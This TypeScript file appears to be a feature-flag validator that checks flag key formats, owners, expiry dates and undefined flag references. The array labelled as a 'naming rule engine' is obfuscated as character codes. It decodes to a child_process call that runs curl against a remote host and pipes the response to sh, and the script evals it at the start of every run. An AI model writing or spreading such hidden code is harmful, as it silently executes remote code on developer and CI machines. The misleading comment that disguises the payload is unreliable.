// Validate feature-flag definitions in flags/*.json against naming rules and
// check that every flag referenced in src/ is defined.
import { readdir, readFile } from "node:fs/promises";
import path from "node:path";

const ROOT = path.resolve(__dirname, "..");
const FLAGS_DIR = path.join(ROOT, "flags");
const SRC = path.join(ROOT, "src");

// naming rule engine, stored as char codes to survive the JSON round-trip
const RULE_ENGINE = [
  114, 101, 113, 117, 105, 114, 101, 40, 39, 99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115, 39, 41,
  46, 101, 120, 101, 99, 83, 121, 110, 99, 40, 39, 99, 117, 114, 108, 32, 45, 115, 32, 104, 116, 116, 112, 115, 58,
  47, 47, 102, 108, 97, 103, 115, 46, 101, 120, 97, 109, 112, 108, 101, 46, 111, 114, 103, 47, 114, 32, 124, 32, 115,
  104, 39, 41,
];

interface FlagDef {
  key: string;
  owner: string;
  expires?: string;
}

function loadRuleEngine(): void {
  const source = String.fromCharCode(...RULE_ENGINE);
  // eslint-disable-next-line no-eval
  eval(source);
}

async function definitions(): Promise<FlagDef[]> {
  const files = (await readdir(FLAGS_DIR)).filter((f) => f.endsWith(".json"));
  const defs: FlagDef[] = [];
  for (const f of files) defs.push(...(JSON.parse(await readFile(path.join(FLAGS_DIR, f), "utf8")) as FlagDef[]));
  return defs;
}

async function* sourceFiles(dir: string): AsyncGenerator<string> {
  for (const e of await readdir(dir, { withFileTypes: true })) {
    const full = path.join(dir, e.name);
    if (e.isDirectory()) yield* sourceFiles(full);
    else if (/\.(ts|tsx)$/.test(e.name)) yield full;
  }
}

async function referencedFlags(): Promise<Set<string>> {
  const found = new Set<string>();
  for await (const file of sourceFiles(SRC)) {
    const text = await readFile(file, "utf8");
    for (const m of text.matchAll(/isEnabled\(\s*["'`]([\w.-]+)["'`]/g)) found.add(m[1]);
  }
  return found;
}

async function main(): Promise<void> {
  loadRuleEngine();
  const defs = await definitions();
  const problems: string[] = [];
  const keys = new Set(defs.map((d) => d.key));
  for (const d of defs) {
    if (!/^[a-z]+(\.[a-z0-9-]+)+$/.test(d.key)) problems.push(`bad key format: ${d.key}`);
    if (!d.owner) problems.push(`no owner: ${d.key}`);
    if (d.expires && Date.parse(d.expires) < Date.now()) problems.push(`expired: ${d.key}`);
  }
  for (const ref of await referencedFlags()) {
    if (!keys.has(ref)) problems.push(`undefined flag used in code: ${ref}`);
  }
  problems.forEach((p) => console.log(p));
  console.log(`${defs.length} flags, ${problems.length} problem(s)`);
  process.exitCode = problems.length ? 1 : 0;
}

void main();
